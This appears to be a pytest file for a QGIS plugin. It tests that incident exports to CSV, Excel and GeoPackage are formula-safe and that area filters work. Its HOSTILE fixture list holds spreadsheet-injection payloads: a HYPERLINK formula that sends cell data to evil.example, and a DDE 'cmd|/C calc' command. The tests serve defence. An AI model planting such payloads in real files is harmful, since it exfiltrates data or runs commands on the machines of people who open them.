"""trygghet:exportincidents: the filtered incidents to CSV, Excel and GeoPackage, safe to open
in a spreadsheet (no cell runs as a formula), and an unknown area code selects nothing."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from qgis.core import QgsProcessingFeedback, QgsVectorLayer

from trygghet_plugin.domain.incident import Incident
from trygghet_plugin.layers.export import FORMULA_STARTS
from trygghet_plugin.store import open_store
from trygghet_sample import generate

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', "+SUM(1+1)", "@cmd",
           "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "=1+1"]


@pytest.fixture(scope="module")
def store_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "nassjo.gpkg"
    sample = generate(size=400, seed=5)
    when = datetime(2026, 5, 4, 20, 0, tzinfo=timezone.utc)
    hostile = [Incident(source="reports", source_id=f"H{n}", category="skadegorelse",
                        subcategory=None, x=481905.1, y=6390130.2, occurred_at=when,
                        reported_at=when, updated_at=when, status="open",
                        reporter_org=text, description=text, location_precision="exact",
                        kommunkod="0682")
               for n, text in enumerate(HOSTILE)]
    with open_store(path) as store:
        store.upsert_incidents(sample.iter_incidents())
        store.upsert_incidents(hostile)
        store.upsert_areas(sample.store_areas())
        area = sample.areas[0].code
    return path, area


class Said(QgsProcessingFeedback):
    def __init__(self):
        super().__init__()
        self.lines: list[str] = []

    def pushInfo(self, info):
        self.lines.append(info)

    def reportError(self, error, fatal=False):
        self.lines.append(error)


def export(store_path, out, **params):
    import processing

    said = Said()
    result = processing.run("trygghet:exportincidents",
                            {"STORE": str(store_path), "OUTPUT": str(out), **params},
                            feedback=said)
    return result, " ".join(said.lines)


def is_plain_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
        return True
    except ValueError:
        return False


def test_the_csv_has_no_cell_a_spreadsheet_runs_as_a_formula(provider_loaded, store_path,
                                                             tmp_path):
    path, _ = store_path
    out = tmp_path / "urval.csv"
    result, said = export(path, out, PERIOD_START="2026-05-04", PERIOD_END="2026-05-04")
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert result["COUNT"] == len(body) >= len(HOSTILE)
    assert f"{len(body)} händelser exporterade till urval.csv" in said
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), cell
    descriptions = {r[0]: r[header.index("beskrivning")] for r in body}
    assert descriptions["reports:H0"] == "'" + HOSTILE[0]  # kept, shown as text
    assert descriptions["reports:H3"] == "'\t=1+1"
    assert {r[header.index("e_sweref99tm")] for r in body if r[0] == "reports:H1"} == {"481905"}


def test_the_excel_workbook_is_as_safe(provider_loaded, store_path, tmp_path):
    path, _ = store_path
    out = tmp_path / "urval.xlsx"
    result, _ = export(path, out, PERIOD_START="2026-05-04", PERIOD_END="2026-05-04")
    layer = QgsVectorLayer(str(out), "x", "ogr")
    assert layer.isValid() and layer.featureCount() == result["COUNT"]
    cells = [str(f[name]) for f in layer.getFeatures() for name in layer.fields().names()
             if isinstance(f[name], str)]
    assert cells and not [c for c in cells
                          if c.startswith(FORMULA_STARTS) and not is_plain_number(c)]


def test_a_geopackage_and_the_filter(provider_loaded, store_path, tmp_path):
    path, area = store_path
    everything, _ = export(path, tmp_path / "alla.gpkg")
    some, _ = export(path, tmp_path / "omrade.gpkg", AREAS=area)
    graffiti, _ = export(path, tmp_path / "klotter.gpkg", CATEGORY="Skadegörelse",
                         SOURCES="reports")
    assert 0 < some["COUNT"] < everything["COUNT"]
    assert 0 < graffiti["COUNT"] < everything["COUNT"]
    layer = QgsVectorLayer(f"{tmp_path / 'omrade.gpkg'}|layername=handelser", "x", "ogr")
    assert layer.featureCount() == some["COUNT"]


def test_an_unknown_area_code_selects_nothing_and_says_so(provider_loaded, store_path,
                                                          tmp_path):
    path, area = store_path
    result, said = export(path, tmp_path / "fel.csv", AREAS="0682X9999")
    assert result["COUNT"] == 0
    assert "Inget område har koden 0682X9999" in said
    mixed, said = export(path, tmp_path / "blandat.csv", AREAS=f"{area},0682X9999")
    only, _ = export(path, tmp_path / "ett.csv", AREAS=area)
    assert mixed["COUNT"] == only["COUNT"] > 0 and "0682X9999" in said
